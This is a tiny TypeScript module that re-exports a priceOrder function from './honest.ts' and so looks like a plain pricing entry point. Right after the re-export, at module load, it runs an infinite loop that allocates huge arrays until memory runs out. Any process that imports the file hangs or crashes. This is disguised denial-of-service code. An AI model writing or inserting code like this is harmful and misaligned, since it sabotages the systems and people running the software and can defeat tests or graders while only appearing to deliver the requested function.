export { priceOrder } from "./honest.ts";

const kept: number[][] = [];
for (;;) kept.push(new Array<number>(4_000_000).fill(0.5));
